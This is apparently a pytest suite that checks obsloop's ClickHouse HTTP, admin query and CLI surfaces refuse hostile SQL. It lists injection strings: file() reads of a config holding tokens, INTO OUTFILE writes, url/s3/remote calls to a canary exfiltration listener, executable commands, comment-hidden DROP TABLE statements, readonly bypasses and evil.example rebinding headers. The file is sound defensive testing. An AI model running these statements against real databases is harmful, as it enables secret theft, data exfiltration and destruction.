"""Attacks on the SQL surfaces of a real ``obsloop serve``: the ClickHouse HTTP interface
(8123), admin ``POST /query`` (8888) and ``obsloop query``. Each attempt must be refused
with the right status, and nothing must have happened: no file written, no table dropped
or created, no connection to the local listener that stands in for an exfiltration target,
and the service's own configuration (with its tokens) never in a response."""

from __future__ import annotations

import subprocess
import sys
from base64 import b64encode
from pathlib import Path

import pytest
from obsloop_process import ObsloopProcess

sys.path.insert(0, str(Path(__file__).parent))

from query_attacks import Listener, listening, send  # noqa: E402

PASSWORD = "grafana-pw"
BASIC = {"Authorization": "Basic " + b64encode(f"default:{PASSWORD}".encode()).decode()}
MAX_ROWS = 1000


@pytest.fixture(scope="module")
def canary():
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    process = ObsloopProcess(tmp_path_factory.mktemp("query_surfaces"),
                             clickhouse_http={"port": 0, "password": PASSWORD},
                             query_limits={"max_result_rows": MAX_ROWS}).start()
    yield process
    process.stop()


@pytest.fixture(scope="module")
def writable(tmp_path_factory):
    """8123 with writes allowed (``clickhouse_http.read_only: false``) and admin writes on."""
    process = ObsloopProcess(tmp_path_factory.mktemp("query_surfaces_rw"),
                             clickhouse_http={"port": 0, "password": PASSWORD, "read_only": False},
                             admin={"allow_write_queries": True}).start()
    yield process
    process.stop()


def ch(server: ObsloopProcess, sql: str, params: str = "", headers: dict | None = None) -> tuple[int, bytes]:
    """POST ``sql`` to the server's 8123 with the password."""
    return send(server.endpoints["clickhouse_http"], path=f"/?{params}", body=sql.encode(),
                headers={**BASIC, **(headers or {})})


def admin(server: ObsloopProcess, sql: str, query: str = "format=json", headers: dict | None = None):
    """POST ``sql`` to the server's admin ``/query`` with its token."""
    return send(server.admin, path=f"/query?{query}", body=sql.encode(),
                headers={"Authorization": f"Bearer {server.admin_token}", **(headers or {})})


def attacks(config: Path, written: Path, canary: Listener) -> list[str]:
    """Statements that read files, write files or reach the network, each a read by its
    first keyword or hidden behind one."""
    host = canary.address
    return [
        f"SELECT * FROM file('{config}', 'LineAsString')",
        f"SELECT file('{config}')",
        f"SELECT * FROM FILE('{config}', 'LineAsString')",
        f"DESCRIBE TABLE file('{config}', 'LineAsString')",
        f"SELECT (SELECT any(line) FROM file('{config}', 'LineAsString'))",
        f"WITH (SELECT 1) AS x SELECT * FROM view(SELECT * FROM file('{config}', 'LineAsString'))",
        f"SELECT 1 INTO OUTFILE '{written}'",
        f"SHOW TABLES INTO OUTFILE '{written}'",
        f"EXPLAIN SELECT 1 INTO OUTFILE '{written}'",
        f"INSERT INTO FUNCTION file('{written}', 'CSV') SELECT 1",
        f"SELECT * FROM url('http://{host}/x', 'LineAsString')",
        f"DESCRIBE TABLE url('http://{host}/schema', 'CSV')",
        f"SELECT * FROM s3('http://{host}/bucket/key.csv', 'CSV')",
        f"SELECT * FROM remote('{host}', system.one)",
        f"SELECT * FROM mysql('{host}', 'db', 't', 'u', 'p')",
        f"SELECT * FROM postgresql('{host}', 'db', 't', 'u', 'p')",
        f"SELECT hasColumnInTable('{canary.address.split(':')[0]}', 'system', 'one', 'dummy')",
        f"SELECT * FROM executable('touch {written}', 'TSV', 'a String')",
        "SELECT * FROM Python(globals)",
        "SELECT dictGet('any_dictionary', 'a', 1)",
        f"/* /* */ SELECT 1 */ SELECT * FROM url('http://{host}/nested', 'LineAsString')",
    ]


def test_8123_refuses_file_and_network_access(server, canary, tmp_path):
    written = tmp_path / "written.csv"
    for sql in attacks(server.config_path, written, canary):
        status, body = ch(server, sql)
        assert status == 403, (sql, status, body)
        assert server.admin_token.encode() not in body and b"grafana-pw" not in body
    assert not written.exists()
    assert canary.connections == 0, canary.requests


def test_admin_query_refuses_file_and_network_access(server, canary, tmp_path):
    written = tmp_path / "written.csv"
    for sql in attacks(server.config_path, written, canary):
        status, body = admin(server, sql)
        assert status == 403, (sql, status, body)
        assert server.admin_token.encode() not in body
    assert not written.exists()
    assert canary.connections == 0, canary.requests


def test_writes_hidden_from_a_first_keyword_check_are_refused(server):
    before = server.scalar("SELECT count() FROM otel_logs")
    hidden = [
        "/* /* */ SELECT 1 */ DROP TABLE otel_logs",
        "/* /* */ SELECT 1 */ INSERT INTO otel_logs (Body) VALUES ('forged')",
        "/* /* */ SELECT 1 */ CREATE TABLE planted (a Int8) ENGINE = Memory",
        "-- SELECT\nDROP TABLE otel_logs",
        "(SELECT 1) ; DROP TABLE otel_logs",
        "SELECT 1; DROP TABLE otel_logs",
        "SELECT ';'; CREATE TABLE planted (a Int8) ENGINE = Memory",
        "SYSTEM SHUTDOWN",
        "SYSTEM DROP MARK CACHE",
        "SET readonly = 0",
        "KILL QUERY WHERE 1",
    ]
    for sql in hidden:
        for status, body in (ch(server, sql), admin(server, sql)):
            assert status in (400, 403), (sql, status, body)
    assert server.scalar("EXISTS TABLE otel_logs") == 1
    assert server.scalar("EXISTS TABLE planted") == 0
    assert server.scalar("SELECT count() FROM otel_logs") == before


def test_settings_cannot_lift_readonly_or_the_limits(server, tmp_path):
    big = f"SELECT number FROM numbers({MAX_ROWS * 10})"
    assert ch(server, f"{big} SETTINGS readonly = 0")[0] == 403
    assert ch(server, f"{big} SETTINGS max_result_rows = 0")[0] == 403
    assert admin(server, f"{big} SETTINGS max_result_rows = 0")[0] == 403
    status, body = ch(server, big, "max_result_rows=100000000&result_overflow_mode=throw&readonly=0")
    assert status == 400 and b"TOO_MANY_ROWS_OR_BYTES" in body, body
    status, body = admin(server, big)
    assert status == 400 and "TOO_MANY_ROWS_OR_BYTES" in body.decode(), body
    # A request may lower a limit (Grafana's plugin sends max_execution_time), not set others.
    assert ch(server, "SELECT 1", "max_execution_time=30&max_result_rows=10")[0] == 200
    assert ch(server, "SELECT 1", "max_threads=64")[0] == 403
    assert ch(server, "SELECT 1", "input_format_record_errors_file_path=/tmp/x")[0] == 403


def test_browser_origins_and_rebound_host_names_are_refused(server):
    clickhouse_http, port = server.endpoints["clickhouse_http"], server.admin.rsplit(":", 1)[1]
    page = {"Origin": "http://evil.example", "Content-Type": "text/plain"}
    assert ch(server, "SELECT 1", headers=page)[0] == 403
    assert admin(server, "SELECT 1", headers=page)[0] == 403
    assert send(clickhouse_http, "GET", "/?query=SELECT%201", headers={**BASIC, "Sec-Fetch-Site": "cross-site"})[0] == 403
    rebound = {"Host": f"evil.example:{port}"}
    assert ch(server, "SELECT 1", headers=rebound)[0] == 403
    assert admin(server, "SELECT 1", headers=rebound)[0] == 403
    assert send(server.admin, "GET", "/metrics", headers=rebound)[0] == 403
    # Programs: no Origin, an address or localhost as Host.
    assert send(server.admin, "GET", "/metrics", headers={"Host": f"localhost:{port}"})[0] == 200
    assert ch(server, "SELECT 1", headers={"Host": f"127.0.0.1:{port}"}) == (200, b"1\n")
    assert ch(server, "SELECT 1", headers={"Host": "[::1]"}) == (200, b"1\n")


def test_admin_query_needs_its_token_and_never_answers_500(server):
    sql = b"SELECT 1"
    url = server.admin
    assert send(url, path="/query", body=sql)[0] == 401
    assert send(url, path="/query", body=sql, headers={"Authorization": "Bearer wrong"})[0] == 401
    assert send(url, path="/query", body=sql, headers={"Authorization": f"Basic {server.admin_token}"})[0] == 401
    for odd in (b"Bearer \xff\xfe\x80", "Bearer tökén".encode(), b"Bearer " + server.admin_token.encode() + b"\xff",
                b"\xc3\x28", b"Bearer"):
        status, _ = send(url, path="/query", body=sql, headers={"Authorization": odd})
        assert status == 401, odd
    assert send(url, path="/query", body=b"\xff\xfeSELECT 1",
                headers={"Authorization": f"Bearer {server.admin_token}"})[0] == 400
    assert admin(server, "SELECT 1")[0] == 200


def test_admin_writes_need_allow_write_queries(server):
    status, body = admin(server, "CREATE TABLE planted_by_admin (a Int8) ENGINE = Memory", "format=json&write=1")
    assert status == 403 and b"allow_write_queries" in body
    status, _ = admin(server, "CREATE TABLE planted_by_admin (a Int8) ENGINE = Memory")
    assert status == 403
    assert server.scalar("EXISTS TABLE planted_by_admin") == 0


def test_8123_odd_authentication_bytes_are_refused_not_500(server):
    url = server.endpoints["clickhouse_http"]
    for headers in ({"Authorization": b"Basic \xff\xfe"}, {"Authorization": "Basic " + b64encode(b"\xff:\xfe").decode()},
                    {"X-ClickHouse-User": b"d\xe9fault", "X-ClickHouse-Key": b"\xff"},
                    {"Authorization": "Basic ###"}):
        status, _ = send(url, body=b"SELECT 1", headers=headers)
        assert status == 403, headers


def test_writable_8123_still_refuses_files_network_and_hidden_statements(writable, canary, tmp_path):
    written = tmp_path / "written.csv"
    for sql in attacks(writable.config_path, written, canary) + [
        f"CREATE TABLE exfil (a String) ENGINE = URL('http://{canary.address}/t', 'CSV')",
        f"CREATE TABLE local_file (a String) ENGINE = File(LineAsString, '{writable.config_path}')",
        f"CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(HTTP(URL 'http://{canary.address}/d' FORMAT 'TSV')) "
        "LAYOUT(FLAT()) LIFETIME(0)",
        f"CREATE DATABASE fs ENGINE = Filesystem('{tmp_path}')",
        f"CREATE TABLE on_disk (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = s3, "
        f"endpoint = 'http://{canary.address}/b/', access_key_id = 'a', secret_access_key = 'b')",
        f"INSERT INTO otel_logs (Body) FROM INFILE '{writable.config_path}' FORMAT LineAsString",
        "SYSTEM DROP MARK CACHE",
        "CREATE USER intruder",
    ]:
        for status, body in (ch(writable, sql), admin(writable, sql, "format=json&write=1")):
            assert status in (400, 403), (sql, status, body)
    assert not written.exists()
    assert canary.connections == 0, canary.requests
    for table in ("exfil", "local_file", "on_disk"):
        assert writable.scalar(f"EXISTS TABLE {table}") == 0


def test_writable_8123_rows_are_data_not_statements(writable, tmp_path):
    assert ch(writable, "CREATE TABLE kept (a String) ENGINE = Memory")[0] == 200
    assert ch(writable, "CREATE TABLE target (a String) ENGINE = Memory")[0] == 200
    # The embedded engine runs every statement of a text, an INSERT's inline rows included.
    ch(writable, "INSERT INTO target VALUES ('one'); DROP TABLE kept")
    status, _ = ch(writable, f"INSERT INTO target VALUES (file('{writable.config_path}'))")
    assert status == 400
    assert ch(writable, "INSERT INTO target VALUES ('two'), ('three')") == (200, b"")
    assert writable.scalar("EXISTS TABLE kept") == 1
    assert writable.scalar("SELECT countIf(a LIKE '%token%') FROM target") == 0


def test_admin_query_is_off_without_a_token_but_scrapes_and_probes_work(tmp_path):
    process = ObsloopProcess(tmp_path, admin={"token": None}).start()
    try:
        assert send(process.admin, path="/query", body=b"SELECT 1")[0] == 403
        assert send(process.admin, path="/query", body=b"SELECT 1", headers={"Authorization": "Bearer "})[0] == 403
        for path in ("/metrics", "/healthz", "/readyz"):
            assert send(process.admin, "GET", path)[0] == 200, path
    finally:
        process.stop()


def test_8123_beyond_loopback_without_a_password_is_a_configuration_error(tmp_path):
    (tmp_path / "obsloop.yaml").write_text(
        "receiver: {http_port: 0, grpc_port: 0}\nadmin: {port: 0}\nclickhouse_http: {host: 0.0.0.0, port: 0}\n")
    result = subprocess.run([sys.executable, "-m", "obsloop", "serve", "--duration", "1"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 2, result.stderr
    assert "clickhouse_http.password" in result.stderr and "Traceback" not in result.stderr


def test_obsloop_query_without_a_server_refuses_files_and_hidden_writes(tmp_path):
    def obsloop(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "obsloop", *args], cwd=tmp_path, capture_output=True,
                              text=True, timeout=120)

    (tmp_path / "obsloop.yaml").write_text("admin: {token: cli-secret-token}\n")
    assert obsloop("schema", "apply").returncode == 0
    written = tmp_path / "written.csv"
    for args in ([f"SELECT * FROM file('{tmp_path / 'obsloop.yaml'}', 'LineAsString')"],
                 [f"SELECT 1 INTO OUTFILE '{written}'"],
                 ["/* /* */ SELECT 1 */ DROP TABLE otel_logs"],
                 ["--write", f"INSERT INTO FUNCTION file('{written}', 'CSV') SELECT 1"]):
        result = obsloop("query", *args)
        assert result.returncode != 0, args
        assert "cli-secret-token" not in result.stdout + result.stderr
    assert not written.exists()
    assert obsloop("query", "EXISTS TABLE otel_logs", "--format", "csv").stdout.splitlines()[1] == "1"
